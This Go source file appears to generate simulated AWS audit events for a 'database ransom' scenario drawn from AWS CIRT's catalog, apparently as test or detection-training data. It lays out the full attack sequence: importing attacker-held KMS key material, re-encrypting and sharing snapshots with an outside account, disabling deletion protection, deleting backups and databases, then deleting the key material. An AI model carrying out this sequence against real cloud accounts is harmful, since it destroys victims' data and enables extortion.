package simulate

import "time"

// databaseRansom: databases and disks are copied under a key whose material the intruder holds, taken along, and destroyed.
//
// Sources: AWS CIRT's Threat Technique Catalog, T1485.A001 (deletion protection off, backup retention set to nothing, then the instances) and
// its pages on shared snapshots, 2025; AWS KMS developer guide, "Importing key material" (the material may be deleted at once, unlike a key).
var databaseRansom = attack{"database-ransom", "Databases copied under an imported key, then destroyed", "AWS CIRT, Threat Technique Catalog T1485.A001: RDS instances and backups, 2025; AWS KMS guide on imported key material", func(a *attackRun) {
	who := user(production, "dba-legacy", "45.153.160.138", "aws-cli/1.44.2 md/Botocore#1.42.2 ua/2.1 os/linux#6.1.0-28-amd64 lang/python#3.11.2")
	a.step("discovery", "finds databases, copies and keys")
	a.call(who, "sts", "GetCallerIdentity", nil, nil)
	a.look(who, 5, "rds:DescribeDBInstances", "rds:DescribeDBClusters", "rds:DescribeDBSnapshots", "ec2:DescribeVolumes", "iam:ListUsers", "ec2:DescribeSnapshots", "kms:ListAliases", "kms:ListKeys", "kms:DescribeKey", "backup:ListBackupVaults")
	key := a.foreignMaterial(who)
	a.takesCopies(who, key)
	a.wait(9 * time.Hour)
	a.destroys(who, key)
}}

// foreignMaterial makes a key from material that the caller holds, and returns its ARN. The first attempt is badly wrapped.
func (a *attackRun) foreignMaterial(who identity) string {
	id := a.uuid()
	arn := "arn:aws:kms:eu-west-1:" + accounts[who.acc].id + ":key/" + id
	on := m{"resources": []any{m{"ARN": arn, "accountId": accounts[who.acc].id, "type": "AWS::KMS::Key"}}}
	a.step("resource-development", "makes a key of its own material")
	a.jitter(12 * time.Minute)
	a.call(who, "kms", "CreateKey", m{"origin": "EXTERNAL", "description": "rds", "keyUsage": "ENCRYPT_DECRYPT", "keySpec": "SYMMETRIC_DEFAULT", "bypassPolicyLockoutSafetyCheck": false, "multiRegion": false},
		m{"keyMetadata": m{"keyId": id, "arn": arn, "origin": "EXTERNAL", "keyState": "PendingImport", "keyManager": "CUSTOMER"}}, on)
	for n := range 2 {
		a.jitter(3 * time.Minute)
		a.call(who, "kms", "GetParametersForImport", m{"keyId": id, "wrappingAlgorithm": "RSAES_OAEP_SHA_256", "wrappingKeySpec": "RSA_4096"}, nil, on)
		a.jitter(4 * time.Minute)
		failed := m{}
		if n == 0 {
			failed = m{"errorCode": "InvalidCiphertextException"}
		}
		a.call(who, "kms", "ImportKeyMaterial", m{"keyId": id, "expirationModel": "KEY_MATERIAL_DOES_NOT_EXPIRE"}, nil, on, failed)
	}
	a.jitter(time.Minute)
	a.call(who, "kms", "PutKeyPolicy", m{
		"keyId": id, "policyName": "default", "bypassPolicyLockoutSafetyCheck": true,
		"policy": `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":["arn:aws:iam::` + accounts[who.acc].id + `:user/dba-legacy","arn:aws:iam::` + stranger + `:root"]},"Action":"kms:*","Resource":"*"}]}`,
	}, nil, on)
	return arn
}

// takesCopies copies databases and disks under a key and shares the copies with the intruder's account.
func (a *attackRun) takesCopies(who identity, key string) {
	a.step("collection", "copies databases and disks under that key")
	for _, name := range []string{"orders", "ledger"} {
		a.jitter(2 * time.Minute)
		a.call(who, "rds", "CreateDBSnapshot", m{"dBInstanceIdentifier": name, "dBSnapshotIdentifier": name + "-tmp"}, m{"dBSnapshotIdentifier": name + "-tmp", "status": "creating"})
		a.jitter(14 * time.Minute)
		a.call(who, "rds", "CopyDBSnapshot", m{"sourceDBSnapshotIdentifier": name + "-tmp", "targetDBSnapshotIdentifier": name + "-x", "kmsKeyId": key}, m{"dBSnapshotIdentifier": name + "-x", "kmsKeyId": key, "encrypted": true})
	}
	disk := "snap-0" + a.hex(16)
	a.call(who, "ec2", "CopySnapshot", m{"sourceRegion": "eu-west-1", "sourceSnapshotId": "snap-0" + a.hex(16), "encrypted": true, "kmsKeyId": key}, m{"snapshotId": disk})
	a.step("exfiltration", "shares the copies with its own account")
	a.jitter(20 * time.Minute)
	a.call(who, "rds", "DescribeDBSnapshots", m{"dBSnapshotIdentifier": "orders-x"}, nil)
	for _, name := range []string{"orders-tmp", "orders-x", "ledger-x"} { // the first is under the key that AWS manages
		a.jitter(30 * time.Second)
		failed := m{}
		if name == "orders-tmp" {
			failed = m{"errorCode": "InvalidParameterValueException", "errorMessage": "Snapshots encrypted with the default AWS KMS key can't be shared"}
		}
		a.call(who, "rds", "ModifyDBSnapshotAttribute", m{"dBSnapshotIdentifier": name, "attributeName": "restore", "valuesToAdd": []string{stranger}}, nil, failed)
	}
	a.call(who, "ec2", "ModifySnapshotAttribute", m{"snapshotId": disk, "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": m{"add": m{"items": []any{m{"userId": stranger}}}}}, m{"_return": true})
}

// destroys takes the databases, their copies and the key's material away.
func (a *attackRun) destroys(who identity, key string) {
	id := key[len(key)-36:]
	a.step("impact", "takes protection and backups off")
	a.call(who, "rds", "DeleteDBInstance", m{"dBInstanceIdentifier": "orders", "skipFinalSnapshot": true, "deleteAutomatedBackups": true}, nil, m{"errorCode": "InvalidParameterCombinationException", "errorMessage": "Cannot delete protected DB Instance, please disable deletion protection and try again."})
	for _, name := range []string{"orders", "ledger", "customers"} {
		a.jitter(20 * time.Second)
		a.call(who, "rds", "ModifyDBInstance", m{"dBInstanceIdentifier": name, "deletionProtection": false, "backupRetentionPeriod": 0, "applyImmediately": true}, m{"dBInstanceIdentifier": name, "deletionProtection": false})
	}
	a.step("impact", "deletes copies and databases")
	for _, name := range []string{"orders-tmp", "ledger-tmp", "orders-2026-02", "ledger-2026-02", "customers-2026-02", "pre-migration"} {
		a.jitter(6 * time.Second)
		a.call(who, "rds", "DeleteDBSnapshot", m{"dBSnapshotIdentifier": name}, nil)
	}
	for range 7 {
		a.jitter(3 * time.Second)
		a.call(who, "ec2", "DeleteSnapshot", m{"snapshotId": "snap-0" + a.hex(16)}, m{"_return": true})
	}
	a.tries(who, "backup", "DeleteBackupVault", m{"backupVaultName": "daily"})
	for _, name := range []string{"orders", "ledger", "customers"} {
		a.jitter(15 * time.Second)
		a.call(who, "rds", "DeleteDBInstance", m{"dBInstanceIdentifier": name, "skipFinalSnapshot": true, "deleteAutomatedBackups": true}, m{"dBInstanceIdentifier": name, "dBInstanceStatus": "deleting"})
	}
	a.step("impact", "takes the key material away")
	a.jitter(2 * time.Minute)
	a.call(who, "kms", "DeleteImportedKeyMaterial", m{"keyId": id}, nil, m{"resources": []any{m{"ARN": key, "accountId": accounts[who.acc].id, "type": "AWS::KMS::Key"}}})
	a.call(who, "kms", "DisableKey", m{"keyId": "7d1f"}, nil)
}
